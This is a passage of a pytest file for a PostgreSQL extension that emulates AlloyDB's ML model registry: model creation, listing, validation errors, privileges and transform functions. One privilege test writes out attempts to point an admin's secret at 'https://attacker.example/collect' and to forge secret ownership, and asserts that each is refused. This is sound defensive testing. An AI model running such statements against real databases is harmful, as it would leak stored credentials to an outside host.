    assert row == ("publishers/google/models/text-embedding-004:predict",
                   "google_ml.vertexai_text_embedding_input_transform",
                   "alloydb_service_agent_iam")


def test_anthropic_models_get_the_header_function(conn: psycopg.Connection[Any]) -> None:
    conn.execute("CALL google_ml.create_model(model_id => 'claude', "
                 "model_provider => 'anthropic')")
    row = conn.execute("SELECT model_request_url, header_gen_fn FROM google_ml.model_info_view "
                       "WHERE model_id = 'claude'").fetchone()
    assert row == ("https://api.anthropic.com/v1/messages",
                   "google_ml.anthropic_claude_header_gen_fn")


def test_ai_create_model_is_a_twin(conn: psycopg.Connection[Any]) -> None:
    conn.execute("CALL ai.create_model(model_id => 'x', model_request_url => "
                 "'https://example.com/x', model_type => 'generic')")
    assert conn.execute("SELECT model_provider::text FROM google_ml.model_info_view "
                        "WHERE model_id = 'x'").fetchone() == ("custom",)


def test_alter_model_changes_only_the_given_fields(conn: psycopg.Connection[Any]) -> None:
    conn.execute("CALL google_ml.create_model(model_id => 'x', model_request_url => "
                 "'https://example.com/x', model_qualified_name => 'q')")
    conn.execute("CALL google_ml.alter_model(model_id => 'x', model_request_url => "
                 "'https://example.com/y')")
    assert conn.execute("SELECT request_url, qualified_name FROM google_ml.models "
                        "WHERE id = 'x'").fetchone() == ("https://example.com/y", "q")


def test_preregistered_models_can_be_altered_and_dropped(conn: psycopg.Connection[Any]) -> None:
    conn.execute("CALL google_ml.alter_model(model_id => 'textembedding-gecko', "
                 "model_request_url => 'publishers/google/models/textembedding-gecko@003')")
    conn.execute("CALL google_ml.drop_model('gemini-1.0-pro:generateContent')")
    rows = dict(conn.execute("SELECT model_id, model_request_url FROM google_ml.model_info_view")
                .fetchall())
    assert rows["textembedding-gecko"] == "publishers/google/models/textembedding-gecko@003"
    assert "gemini-1.0-pro:generateContent" not in rows


def test_preregistered_models_are_listed(conn: psycopg.Connection[Any]) -> None:
    ids = {row[0] for row in conn.execute("SELECT model_id FROM google_ml.model_info_view")}
    assert {
        "textembedding-gecko", "textembedding-gecko@001", "textembedding-gecko@003",
        "textembedding-gecko-multilingual@001", "text-embedding-005", "gemini-embedding-001",
        "gemini-1.5-pro:generateContent", "gemini-1.5-pro:streamGenerateContent",
        "gemini-1.0-pro:generateContent", "gemini-2.5-flash-lite", "semantic-ranker-default-003",
    } <= ids


def test_model_info_view_columns(conn: psycopg.Connection[Any]) -> None:
    cursor = conn.execute("SELECT * FROM google_ml.model_info_view LIMIT 0")
    assert [c.name for c in cursor.description] == [
        "model_id", "model_request_url", "model_provider", "model_type", "model_qualified_name",
        "model_auth_type", "model_auth_id", "header_gen_fn", "input_transform_fn",
        "output_transform_fn", "input_batch_transform_fn", "output_batch_transform_fn",
        "model_availability",
    ]


def test_create_model_rolled_back_leaves_nothing(conn: psycopg.Connection[Any]) -> None:
    with pytest.raises(psycopg.errors.QueryCanceled), conn.transaction():
        conn.execute("CALL google_ml.create_model(model_id => 'tx', model_request_url => "
                     "'https://example.com')")
        assert conn.execute("SELECT count(*) FROM google_ml.models WHERE id = 'tx'"
                            ).fetchone() == (1,)
        conn.execute("SELECT pg_cancel_backend(pg_backend_pid()), pg_sleep(1)")
    assert conn.execute("SELECT count(*) FROM google_ml.models WHERE id = 'tx'").fetchone() == (0,)


def test_failed_create_model_leaves_the_transaction_aborted_as_postgres_does(
        conn: psycopg.Connection[Any]) -> None:
    conn.autocommit = False
    with pytest.raises(psycopg.errors.DuplicateObject):
        conn.execute("CALL google_ml.create_model(model_id => 'y', model_request_url => "
                     "'https://example.com')")
        conn.execute("CALL google_ml.create_model(model_id => 'y', model_request_url => "
                     "'https://example.com')")
    with pytest.raises(psycopg.errors.InFailedSqlTransaction):
        conn.execute("SELECT 1")
    conn.rollback()
    conn.autocommit = True
    assert conn.execute("SELECT count(*) FROM google_ml.models WHERE id = 'y'").fetchone() == (0,)


# ---------------------------------------------------------------------------
# list_model
# ---------------------------------------------------------------------------

LIST_1_3 = """
SELECT * FROM google_ml.list_model('{id}') AS t(model_id varchar, model_request_url varchar,
model_provider google_ml.model_provider, model_type google_ml.model_type, model_qualified_name varchar,
model_auth_type google_ml.auth_type, model_auth_id varchar, input_transform_fn varchar,
output_transform_fn varchar)
"""

LIST_1_5_3 = """SELECT * FROM
                google_ml.list_model('{id}')
                AS t(model_id VARCHAR,
                model_availability VARCHAR,
                model_request_url VARCHAR,
                model_provider google_ml.model_provider,
                model_type google_ml.model_type,
                model_qualified_name VARCHAR,
                model_auth_type google_ml.auth_type,
                model_auth_id VARCHAR,
                header_gen_fn VARCHAR,
                input_transform_fn VARCHAR,
                output_transform_fn VARCHAR,
                input_batch_transform_fn VARCHAR,
                output_batch_transform_fn VARCHAR)"""


def test_list_model_with_the_1_3_column_list(conn: psycopg.Connection[Any]) -> None:
    row = conn.execute(LIST_1_3.format(id="text-embedding-005")).fetchone()
    assert row == ("text-embedding-005", "publishers/google/models/text-embedding-005:predict",
                   "google", "text_embedding", "text-embedding-005",
                   "alloydb_service_agent_iam", None,
                   "google_ml.vertexai_text_embedding_input_transform",
                   "google_ml.vertexai_text_embedding_output_transform")


def test_list_model_with_the_1_5_3_column_list(conn: psycopg.Connection[Any]) -> None:
    row = conn.execute(LIST_1_5_3.format(id="gemini-2.5-flash-lite")).fetchone()
    assert row == ("gemini-2.5-flash-lite", "AVAILABLE",
                   "publishers/google/models/gemini-2.5-flash-lite:generateContent",
                   "google", "llm", "gemini-2.5-flash-lite", "alloydb_service_agent_iam", None,
                   None, "google_ml.gemini_llm_input_transform",
                   "google_ml.gemini_llm_output_transform",
                   "google_ml.gemini_llm_batch_input_transform",
                   "google_ml.gemini_llm_batch_output_transform")


def test_list_model_with_any_column_list(conn: psycopg.Connection[Any]) -> None:
    row = conn.execute(
        "SELECT * FROM google_ml.list_model('text-embedding-005') AS t("
        "model_type text, model_id varchar(10), nonsense int, model_provider text)").fetchone()
    assert row == ("text_embedding", "text-embed", None, "google")


def test_list_model_with_a_column_list_in_a_prepared_statement(
        conn: psycopg.Connection[Any]) -> None:
    statement = LIST_1_3.format(id="x").replace("'x'", "%s")
    for _ in range(3):
        row = conn.execute(statement, ("text-embedding-005",), prepare=True).fetchone()
        assert row is not None and row[0] == "text-embedding-005" and len(row) == 9


def test_list_model_unknown_id_is_42704(conn: psycopg.Connection[Any]) -> None:
    assert sqlstate_of(conn, LIST_1_3.format(id="nope")) == "42704"


def test_list_model_without_column_list_returns_the_record(
        conn: psycopg.Connection[Any]) -> None:
    # The documented form: SELECT google_ml.list_model('MODEL_ID');
    (record,) = conn.execute("SELECT google_ml.list_model('text-embedding-005')::text").fetchone()
    assert record.startswith("(text-embedding-005,AVAILABLE,")
    assert "google_ml.vertexai_text_embedding_output_transform" in record
    # A call the statement text does not show (inside a function) gets the version's list.
    conn.execute("""CREATE FUNCTION list_it() RETURNS text LANGUAGE plpgsql AS
                    $$ BEGIN RETURN google_ml.list_model('text-embedding-005')::text; END $$""")
    assert conn.execute("SELECT list_it()").fetchone() == (record,)
    conn.execute("DROP FUNCTION list_it()")


def test_list_model_of_1_5_2_is_the_1_3_list(conn: psycopg.Connection[Any]) -> None:
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute("CREATE EXTENSION google_ml_integration VERSION '1.5.2'")
    (record,) = conn.execute("SELECT google_ml.list_model('text-embedding-005')::text").fetchone()
    assert record == ("(text-embedding-005,publishers/google/models/text-embedding-005:predict,"
                      "google,text_embedding,text-embedding-005,alloydb_service_agent_iam,,"
                      "google_ml.vertexai_text_embedding_input_transform,"
                      "google_ml.vertexai_text_embedding_output_transform)")


def test_list_model_with_a_list_of_the_wrong_shape_is_postgresqls_error(
        conn: psycopg.Connection[Any]) -> None:
    assert sqlstate_of(conn, "SELECT * FROM google_ml.list_model('text-embedding-005')") == "42601"


# ---------------------------------------------------------------------------
# validation errors
# ---------------------------------------------------------------------------

# A deploy script from public code that runs on AlloyDB: it registers a model AlloyDB does not
# pre-register, and run again, it recognises AlloyDB's duplicate error by its text.
DEPLOY_SCRIPT = """
DO $$
BEGIN
    CALL google_ml.create_model(
        model_id => 'gemini-3.1-pro-preview',
        model_request_url => 'https://aiplatform.googleapis.com/v1/projects/p/locations/global/publishers/google/models/gemini-3.1-pro-preview:generateContent',
        model_qualified_name => 'gemini-3.1-pro-preview',
        model_provider => 'google',
        model_type => 'llm',
        model_auth_type => 'alloydb_service_agent_iam'
    );
EXCEPTION
    WHEN OTHERS THEN
        IF SQLERRM ~ 'Model already exists' THEN
            RAISE NOTICE 'Model gemini-3.1-pro-preview already exists, skipping.';
        ELSE
            RAISE;
        END IF;
END $$;
"""


def test_a_deploy_script_matching_alloydbs_duplicate_error_runs_twice(
        conn: psycopg.Connection[Any]) -> None:
    notices: list[str] = []
    conn.add_notice_handler(lambda d: notices.append(d.message_primary or ""))
    conn.execute(DEPLOY_SCRIPT)
    assert notices == []
    conn.execute(DEPLOY_SCRIPT)
    assert notices == ["Model gemini-3.1-pro-preview already exists, skipping."]
    assert conn.execute("SELECT model_type FROM google_ml.model_info_view "
                        "WHERE model_id = 'gemini-3.1-pro-preview'").fetchone() == ("llm",)


VALIDATION_CASES = [
    ("unknown provider", "model_provider",
     ("CALL google_ml.create_model(model_id => 'e', model_provider => 'nope', "
     "model_request_url => 'https://x')"), "22023"),
    ("unknown type", "model_type",
     ("CALL google_ml.create_model(model_id => 'e', model_type => 'nope', "
     "model_request_url => 'https://x')"), "22023"),
    ("unknown auth type", "model_auth_type",
     ("CALL google_ml.create_model(model_id => 'e', model_auth_type => 'nope', "
     "model_request_url => 'https://x')"), "22023"),
    ("duplicate model", "already exists",
     "CALL google_ml.create_model(model_id => 'dup', model_request_url => 'https://x')", "42710"),
    ("missing URL", "model_request_url",
     "CALL google_ml.create_model(model_id => 'e', model_provider => 'custom')", "22023"),
    ("missing transform function", "model_in_transform_fn",
     ("CALL google_ml.create_model(model_id => 'e', model_request_url => 'https://x', "
     "model_type => 'text_embedding', model_in_transform_fn => 'no_such_fn', "
     "model_out_transform_fn => 'cymbal_text_output_transform')"), "42883"),
    ("missing header function", "generate_headers_fn",
     ("CALL google_ml.create_model(model_id => 'e', model_request_url => 'https://x', "
     "generate_headers_fn => 'public.no_such_fn')"), "42883"),
    ("transform with the wrong signature", "model_out_transform_fn",
     ("CALL google_ml.create_model(model_id => 'e', model_request_url => 'https://x', "
     "model_type => 'text_embedding', model_in_transform_fn => 'cymbal_text_input_transform', "
     "model_out_transform_fn => 'cymbal_text_input_transform')"), "42P13"),
    ("header function with the wrong signature", "generate_headers_fn",
     ("CALL google_ml.create_model(model_id => 'e', model_request_url => 'https://x', "
     "generate_headers_fn => 'cymbal_text_output_transform')"), "42P13"),
    ("unknown secret", "model_auth_id",
     ("CALL google_ml.create_model(model_id => 'e', model_request_url => 'https://x', "
     "model_auth_type => 'secret_manager', model_auth_id => 'nope')"), "42704"),
    ("http URL", "allow_http_endpoints",
     "CALL google_ml.create_model(model_id => 'e', model_request_url => 'http://x')", "22023"),
    ("custom embedding without transforms", "model_in_transform_fn",
     ("CALL google_ml.create_model(model_id => 'e', model_request_url => 'https://x', "
     "model_type => 'text_embedding')"), "22023"),
    ("alter an unknown model", "does not exist",
     "CALL google_ml.alter_model(model_id => 'nope', model_request_url => 'https://x')", "42704"),
    ("drop an unknown model", "does not exist", "CALL google_ml.drop_model('nope')", "42704"),
    ("bad secret path", "secret_path",
     "CALL google_ml.create_sm_secret('s2', 'projects/p/secrets/s')", "22023"),
    ("duplicate secret", "already exists",
     "CALL google_ml.create_sm_secret('s1', 'projects/p/secrets/s/versions/1')", "42710"),
    ("alter an unknown secret", "does not exist",
     "CALL google_ml.alter_sm_secret('nope', 'projects/p/secrets/s/versions/1')", "42704"),
    ("drop an unknown secret", "does not exist", "CALL google_ml.drop_sm_secret('nope')", "42704"),
]


@pytest.mark.parametrize(("case", "names", "statement", "sqlstate"), VALIDATION_CASES,
                         ids=[case[0] for case in VALIDATION_CASES])
def test_validation_error(conn: psycopg.Connection[Any], case: str, names: str, statement: str,
                          sqlstate: str) -> None:
    conn.execute(SEED_CYMBAL)
    conn.execute("CALL google_ml.create_model(model_id => 'dup', model_request_url => 'https://x')")
    conn.execute("CALL google_ml.create_sm_secret('s1', 'projects/p/secrets/s/versions/latest')")
    error = error_of(conn, statement)
    assert error.sqlstate == sqlstate, str(error)
    assert names in str(error) + str(error.diag.message_hint)


def test_a_missing_transform_function_is_named_as_alloydb_names_it(
        conn: psycopg.Connection[Any]) -> None:
    """AlloyDB Omni 1.6.3, as a public TEI walkthrough recorded it: registering a model whose
    transform no longer exists fails with ``Invalid model_in_transform_fn:
    google_ml.tei_text_embedding_input_transform``. The message starts the same here; DETAIL and
    HINT say what is missing and what signature to create."""
    error = error_of(conn, """CALL google_ml.create_model(
  model_id               => 'embedding-gemma',
  model_request_url      => 'https://tei-service.default.svc.cluster.local/embed',
  model_provider         => 'custom',
  model_type             => 'text_embedding',
  model_qualified_name   => 'google/embeddinggemma-300m',
  model_in_transform_fn  => 'google_ml.tei_text_embedding_input_transform',
  model_out_transform_fn => 'google_ml.tei_text_embedding_output_transform'
)""")
    assert error.sqlstate == "42883"
    assert error.diag.message_primary == (
        "Invalid model_in_transform_fn: google_ml.tei_text_embedding_input_transform")
    assert error.diag.message_detail == (
        'function "google_ml.tei_text_embedding_input_transform" does not exist')
    assert "model_id" in (error.diag.message_hint or "")
    error = error_of(conn, "CALL google_ml.create_model(model_id => 'h', model_request_url => "
                           "'https://x', generate_headers_fn => 'public.no_such_fn')")
    assert error.diag.message_primary == "Invalid generate_headers_fn: public.no_such_fn"


def test_a_generic_model_takes_no_transform_functions(conn: psycopg.Connection[Any]) -> None:
    """reference/model-endpoint (2026-04-08) says it three times: "You cannot pass transform
    functions when you are registering a generic model endpoint", the transform parameters are
    "don't set for generic model endpoints", and "You cannot use transform functions when
    registering a generic model endpoint". generic is also the default model_type, so a custom
    embedding model registered without its type is refused at registration, not at its first
    embedding() call. The page's own cymbal transforms are used; a header function stays
    allowed, and the same transforms register a text_embedding model."""
    conn.execute(SEED_CYMBAL)
    for model_type in ("model_type => 'generic', ", ""):
        error = error_of(conn, f"""CALL google_ml.create_model(
    model_id => 'cymbal_generic',
    model_request_url => 'https://cymbal.com/models/text/embeddings/v1',
    model_provider => 'custom', {model_type}
    model_in_transform_fn => 'cymbal_text_input_transform',
    model_out_transform_fn => 'cymbal_text_output_transform')""")
        assert error.sqlstate == "22023"
        assert error.diag.message_primary == (
            'transform functions cannot be set for generic model "cymbal_generic"')
        assert error.diag.message_detail == (
            "Given: model_in_transform_fn => 'cymbal_text_input_transform', "
            "model_out_transform_fn => 'cymbal_text_output_transform'.")
        assert "model_type => 'text_embedding'" in (error.diag.message_hint or "")
    assert conn.execute("SELECT count(*) FROM google_ml.models WHERE id = 'cymbal_generic'"
                        ).fetchone() == (0,)
    # A header function is not a transform (the page's generic one); NULL transforms, as deploy
    # scripts spell them out, pass.
    conn.execute("""CREATE OR REPLACE FUNCTION header_gen_func(model_id VARCHAR(100),
        response_json JSON) RETURNS JSON LANGUAGE plpgsql AS $$
    BEGIN
    RETURN json_build_object('x-api-key', 'API_KEY', 'anthropic-version', '2023-06-01')::JSON;
    END; $$""")
    conn.execute("""CALL google_ml.create_model(
    model_id => 'vllm', model_request_url => 'https://vllm.example/v1/completions',
    model_provider => 'custom', model_type => 'generic', model_auth_type => null,
    model_auth_id => null, generate_headers_fn => 'header_gen_func',
    model_in_transform_fn => null, model_out_transform_fn => null)""")
    conn.execute("""CALL google_ml.create_model(
    model_id => 'cymbal', model_request_url => 'https://cymbal.com/models/text/embeddings/v1',
    model_type => 'text_embedding',
    model_in_transform_fn => 'cymbal_text_input_transform',
    model_out_transform_fn => 'cymbal_text_output_transform')""")
    # alter_model goes through the same check: turning it generic keeps its transforms.
    error = error_of(conn, "CALL google_ml.alter_model(model_id => 'cymbal', "
                           "model_type => 'generic')")
    assert error.sqlstate == "22023"
    assert conn.execute("SELECT model_type::text FROM google_ml.models WHERE id = 'cymbal'"
                        ).fetchone() == ("text_embedding",)


def test_http_url_accepted_when_allowed(conn: psycopg.Connection[Any]) -> None:
    conn.execute("SET google_ml_integration.allow_http_endpoints = on")
    conn.execute("CALL google_ml.create_model(model_id => 'h', "
                 "model_request_url => 'http://127.0.0.1:1/x')")


def test_functions_are_stored_schema_qualified(conn: psycopg.Connection[Any]) -> None:
    conn.execute(SEED_CYMBAL)
    conn.execute("CALL google_ml.create_model(model_id => 'c', model_request_url => 'https://x', "
                 "model_type => 'text_embedding', "
                 "model_in_transform_fn => 'cymbal_text_input_transform', "
                 "model_out_transform_fn => 'cymbal_text_output_transform')")
    assert conn.execute("SELECT input_transform_fn FROM google_ml.models WHERE id = 'c'"
                        ).fetchone() == ("public.cymbal_text_input_transform",)


# ---------------------------------------------------------------------------
# privileges
# ---------------------------------------------------------------------------


@pytest.fixture
def user_dsn(conn: psycopg.Connection[Any], db_dsn: str) -> str:
    conn.execute("DROP OWNED BY ext_test_user" if conn.execute(
        "SELECT 1 FROM pg_roles WHERE rolname = 'ext_test_user'").fetchone() else "SELECT 1")
    conn.execute("DROP ROLE IF EXISTS ext_test_user")
    conn.execute("CREATE ROLE ext_test_user LOGIN")
    return psycopg.conninfo.make_conninfo(db_dsn, user="ext_test_user")


def test_non_superuser_without_grant_gets_permission_denied(
        conn: psycopg.Connection[Any], user_dsn: str) -> None:
    with psycopg.connect(user_dsn, autocommit=True) as user:
        assert sqlstate_of(user, "CALL google_ml.create_model(model_id => 'u', "
                                 "model_request_url => 'https://x')") == "42501"
        assert sqlstate_of(user, "SELECT * FROM google_ml.model_info_view") == "42501"
        assert sqlstate_of(user, "SELECT * FROM google_ml._engine_endpoint") == "42501"


def test_non_superuser_with_grant_manages_models(
        conn: psycopg.Connection[Any], user_dsn: str) -> None:
    conn.execute("GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA google_ml "
                 "TO ext_test_user")
    conn.execute("INSERT INTO google_ml._engine_endpoint (conninfo) VALUES ('password=secret')")
    with psycopg.connect(user_dsn, autocommit=True) as user:
        user.execute("CALL google_ml.create_sm_secret('k', 'projects/p/secrets/s/versions/1')")
        user.execute("CALL google_ml.create_model(model_id => 'u', model_provider => 'open_ai', "
                     "model_type => 'text_embedding', model_qualified_name => "
                     "'text-embedding-3-small', model_auth_id => 'k')")
        user.execute("CALL google_ml.alter_model(model_id => 'u', model_qualified_name => "
                     "'text-embedding-3-large')")
        assert user.execute(LIST_1_3.format(id="u")).fetchone()[4] == "text-embedding-3-large"
        user.execute("CALL google_ml.drop_model('u')")
        # The engine endpoint (and its password) stays hidden despite the blanket grant: the
        # grant does not reach it (and row level security would hide its rows).
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            user.execute("SELECT count(*) FROM google_ml._engine_endpoint")


def test_non_superuser_may_not_use_a_secret_of_another_role(
        conn: psycopg.Connection[Any], user_dsn: str) -> None:
    # The documented grant lets a role register models; it must not let that role send the
    # admin's secret to a URL of its own.
    conn.execute("GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA google_ml "
                 "TO ext_test_user")
    conn.execute("CALL google_ml.create_sm_secret('admin_key', 'projects/p/secrets/admin/versions/1')")
    conn.execute("CALL google_ml.create_model(model_id => 'admin_model', model_provider => "
                 "'open_ai', model_type => 'text_embedding', model_qualified_name => "
                 "'text-embedding-3-small', model_auth_id => 'admin_key')")
    with psycopg.connect(user_dsn, autocommit=True) as user:
        with pytest.raises(psycopg.errors.InsufficientPrivilege) as caught:
            user.execute("CALL google_ml.create_model(model_id => 'mine', model_request_url => "
                         "'https://attacker.example/collect', model_auth_id => 'admin_key')")
        assert 'permission denied to use secret "admin_key" in model "mine"' in str(caught.value)
        owner = conn.execute("SELECT current_user").fetchone()[0]
        assert caught.value.diag.message_detail == (
            f'Secret "admin_key" belongs to role "{owner}"; role "ext_test_user" may not use it.')
        assert "GRANT GROUP_ROLE TO ext_test_user" in str(caught.value.diag.message_hint)
        user.execute("CALL google_ml.create_sm_secret('own', 'projects/p/secrets/own/versions/1')")
        user.execute("CALL google_ml.create_model(model_id => 'mine', model_request_url => "
                     "'https://attacker.example/collect', model_auth_id => 'own')")
        refused = [
            "CALL google_ml.alter_model(model_id => 'mine', model_auth_id => 'admin_key')",
            ("INSERT INTO google_ml.models (id, request_url, auth_type, auth_id) VALUES "
            "('direct', 'https://attacker.example', 'secret_manager', 'admin_key')"),
            ("UPDATE google_ml.models SET request_url = 'https://attacker.example' "
            "WHERE id = 'admin_model'"),
            # the same Secret Manager secret under a name of one's own, in any version
            "CALL google_ml.create_sm_secret('copy', 'projects/p/secrets/admin/versions/latest')",
            "CALL google_ml.alter_sm_secret('own', 'projects/p/secrets/admin/versions/2')",
            "UPDATE google_ml.secrets SET owner = 'ext_test_user' WHERE secret_id = 'admin_key'",
            f"UPDATE google_ml.secrets SET owner = '{owner}' WHERE secret_id = 'own'",
            "CALL google_ml.drop_sm_secret('admin_key')",
        ]
        for statement in refused:
            assert sqlstate_of(user, statement) == "42501", statement
        # a secret inserted directly belongs to the role that inserts it, whatever it says
        user.execute("INSERT INTO google_ml.secrets (secret_id, secret_path, owner) VALUES "
                     "('forged', 'projects/p/secrets/forged/versions/1', %s)", (owner,))
        assert user.execute("SELECT owner FROM google_ml.secrets WHERE secret_id = 'forged'"
                            ).fetchone() == ("ext_test_user",)
    assert conn.execute("SELECT request_url, auth_id FROM google_ml.models WHERE id = 'admin_model'"
                        ).fetchone()[1] == "admin_key"
    # Shared through a group role, the secret is usable.
    conn.execute("DROP ROLE IF EXISTS ext_test_secrets")
    conn.execute("CREATE ROLE ext_test_secrets")
    conn.execute("UPDATE google_ml.secrets SET owner = 'ext_test_secrets' WHERE secret_id = 'admin_key'")
    conn.execute("GRANT ext_test_secrets TO ext_test_user")
    with psycopg.connect(user_dsn, autocommit=True) as user:
        user.execute("CALL google_ml.alter_model(model_id => 'mine', model_auth_id => 'admin_key')")
    conn.execute("DELETE FROM google_ml.models WHERE auth_id = 'admin_key'")
    conn.execute("CALL google_ml.drop_sm_secret('admin_key')")
    conn.execute("DROP ROLE ext_test_secrets")


def test_non_superuser_calls_models_without_table_grants(
        conn: psycopg.Connection[Any], calls: FakeEngine, user_dsn: str) -> None:
    with psycopg.connect(user_dsn, autocommit=True) as user:
        embedding = user.execute(
            "SELECT google_ml.embedding('text-embedding-005', 'hello')").fetchone()[0]
    assert embedding == [0.5, 0.25, 0.125]


# ---------------------------------------------------------------------------
# built-in transforms
# ---------------------------------------------------------------------------


def test_builtin_transforms_are_callable(conn: psycopg.Connection[Any]) -> None:
    row = conn.execute("""
        SELECT google_ml.vertexai_text_embedding_input_transform('m', 'hi')::text,
               google_ml.vertexai_text_embedding_output_transform(
                   'm', '{"predictions":[{"embeddings":{"values":[1,2]}}]}'),
               google_ml.vertexai_text_embedding_batch_input_transform('m', ARRAY['a','b'])::text,
               google_ml.vertexai_text_embedding_batch_output_transform(
                   'm', '{"predictions":[{"embeddings":{"values":[1,2]}},
                                         {"embeddings":{"values":[3,4]}}]}'),
               google_ml.openai_text_embedding_output_transform(
                   'm', '{"data":[{"embedding":[5,6]}]}'),
               google_ml.gemini_llm_output_transform(
                   'm', '{"candidates":[{"content":{"parts":[{"text":"yes"}]}}]}'),
               google_ml.anthropic_claude_header_gen_fn('m', '{}')::text,
               google_ml.generate_model_request_url('google', 'text_embedding', 'x')
    """).fetchone()
    assert json.loads(row[0]) == {"instances": [{"content": "hi"}]}
    assert row[1] == [1.0, 2.0]
    assert json.loads(row[2]) == {"instances": [{"content": "a"}, {"content": "b"}]}
    assert row[3] == [[1.0, 2.0], [3.0, 4.0]]
    assert row[4] == [5.0, 6.0]
    assert row[5] == "yes"
    assert json.loads(row[6]) == {"anthropic-version": "2023-06-01"}
    assert row[7] == "publishers/google/models/x:predict"


def test_openai_input_transform_uses_the_qualified_name(conn: psycopg.Connection[Any]) -> None:
    conn.execute(SEED_SECRET)
    conn.execute(SEED_MODELS[2])
    body = conn.execute(
        "SELECT google_ml.openai_text_embedding_input_transform('MODEL_ID', 'hi')::text"
    ).fetchone()[0]
    assert json.loads(body) == {"model": "text-embedding-ada-002", "input": "hi"}
    assert conn.execute("SELECT google_ml.model_qualified_name_of('MODEL_ID')").fetchone() == (
        "text-embedding-ada-002",)


def test_gemini_transforms(conn: psycopg.Connection[Any]) -> None:
    body = conn.execute(
        "SELECT google_ml.gemini_llm_input_transform('m', 'hi', '{\"temperature\":0}', 'be brief')"
        "::text").fetchone()[0]
    assert json.loads(body) == {
        "contents": [{"role": "user", "parts": [{"text": "hi"}]}],
        "generationConfig": {"temperature": 0},
        "systemInstruction": {"parts": [{"text": "be brief"}]},
    }
    texts = conn.execute("""
        SELECT google_ml.gemini_llm_batch_output_transform('m',
            '[{"ok":{"candidates":[{"content":{"parts":[{"text":"a"}]}}]}},
              {"candidates":[{"content":{"parts":[{"text":"b"}]}}]}]')""").fetchone()[0]
    assert texts == ["a", "b"]


def test_reranking_output_transform_sorts_by_score(conn: psycopg.Connection[Any]) -> None:
    rows = conn.execute("""
        SELECT * FROM google_ml.vertexai_reranking_output_transform('m',
            '{"records":[{"id":"1","score":0.1},{"id":"2","score":0.9}]}')""").fetchall()
    assert rows == [(2, pytest.approx(0.9)), (1, pytest.approx(0.1))]


# ---------------------------------------------------------------------------
# model calls (SQL side) through the fake engine
# ---------------------------------------------------------------------------


def test_embedding_of_a_preregistered_model(conn: psycopg.Connection[Any],
                                            calls: FakeEngine) -> None:
    row = conn.execute("""
      SELECT
            google_ml.embedding(
              model_id => 'textembedding-gecko',
              content => 'AlloyDB is a managed, cloud-hosted SQL database service')""").fetchone()
    assert row == ([0.5, 0.25, 0.125],)
    request = calls.requests[-1]
    assert request == {
        "op": "invoke", "model_id": "textembedding-gecko", "provider": "google",
        "model_type": "text_embedding", "qualified_name": "textembedding-gecko",
        "url": "publishers/google/models/textembedding-gecko:predict", "headers": {},
        "auth": {"type": "alloydb_service_agent_iam"},
        "body": {"instances": [
            {"content": "AlloyDB is a managed, cloud-hosted SQL database service"}]},
    }


def test_embedding_entry_points_agree(conn: psycopg.Connection[Any], calls: FakeEngine) -> None:
    row = conn.execute("""
        SELECT embedding('text-embedding-005', 'x'), ai.embedding('text-embedding-005', 'x'),
               embedding('text-embedding-004', 'x'),
               embedding('projects/p/locations/europe-west1/publishers/google/models/m', 'x')
    """).fetchone()
    assert row == ([0.5, 0.25, 0.125],) * 4
    assert calls.requests[2]["url"] == "publishers/google/models/text-embedding-004:predict"
    assert calls.requests[3]["url"] == (
        "projects/p/locations/europe-west1/publishers/google/models/m")
    assert calls.requests[3]["qualified_name"] == "m"


def test_google_ml_embedding_of_an_unknown_model_is_42704(conn: psycopg.Connection[Any],
                                                          calls: FakeEngine) -> None:
    error = error_of(conn, "SELECT google_ml.embedding('no-such-model', 'x')")
    assert error.sqlstate == "42704"
    assert "no-such-model" in str(error)


def test_embedding_of_a_non_embedding_model_is_22023(conn: psycopg.Connection[Any],
                                                     calls: FakeEngine) -> None:
    assert sqlstate_of(conn, "SELECT google_ml.embedding('gemini-2.5-flash-lite', 'x')") == "22023"


def test_model_calls_need_enable_model_support(conn: psycopg.Connection[Any],
                                               calls: FakeEngine) -> None:
    conn.execute("SET google_ml_integration.enable_model_support = off")
    error = error_of(conn, "SELECT google_ml.embedding('text-embedding-005', 'x')")
    assert error.sqlstate == "55000"
    assert "google_ml_integration.enable_model_support" in str(error)
    assert sqlstate_of(conn, "SELECT google_ml.predict_row('gemini-2.5-flash-lite', '{}')") == (
        "55000")


def test_model_calls_without_the_emulator_say_how_to_connect(
        conn: psycopg.Connection[Any]) -> None:
    error = error_of(conn, "SELECT google_ml.embedding('text-embedding-005', 'x')")
    assert error.sqlstate == "08004"
    assert "alloydb-ai-emulator serve" in str(error)


def test_custom_model_with_transforms_and_headers(conn: psycopg.Connection[Any],
                                                  calls: FakeEngine) -> None:
    conn.execute(SEED_SECRET)
    conn.execute(SEED_CYMBAL)
    conn.execute(SEED_HEADER_FN)
    conn.execute(SEED_MODELS[3])
    conn.execute("CALL google_ml.alter_model(model_id => 'MODEL_ID', "
                 "generate_headers_fn => 'HEADER_GEN_FUNCTION')")
    result = conn.execute("SELECT google_ml.embedding('MODEL_ID', 'hello')").fetchone()[0]
    assert result == [pytest.approx(0.1), pytest.approx(0.2), pytest.approx(0.3)]
    request = calls.requests[-1]
    assert request["body"] == {"prompt": ["hello"]}
    assert request["headers"] == {"Content-Type": "application/json",
                                  "Authorization": "Bearer API_KEY"}
    assert request["url"] == "REQUEST_URL"
    assert request["auth"] == {
        "type": "secret_manager",
        "secret_path": "projects/PROJECT_ID/secrets/SECRET_MANAGER_SECRET_ID/versions/"
                       "VERSION_NUMBER"}


def test_openai_embedding_request(conn: psycopg.Connection[Any], calls: FakeEngine) -> None:
    conn.execute(SEED_SECRET)
    conn.execute(SEED_MODELS[2])
    assert conn.execute("SELECT embedding('MODEL_ID', 'hi')::text").fetchone() == ("{1,2}",)
    request = calls.requests[-1]
    assert request["url"] == "https://api.openai.com/v1/embeddings"
    assert request["body"] == {"model": "text-embedding-ada-002", "input": "hi"}


def test_predict_row_sends_the_body_as_is(conn: psycopg.Connection[Any],
                                          calls: FakeEngine) -> None:
    text = conn.execute("""
 SELECT
        json_array_elements(
        google_ml.predict_row(
            model_id => 'gemini-1.5-pro:streamGenerateContent',
            request_body => '{
        "contents": [
            {
                "role": "user",
                "parts": [
                    {
                        "text": "generate a SQL query"
                    }
                ]
            }
        ]
        }'))-> 'candidates' -> 0 -> 'content' -> 'parts' -> 0 -> 'text';
    """).fetchall()
    assert text == [("SELECT 1",), ("SELECT 1",)]
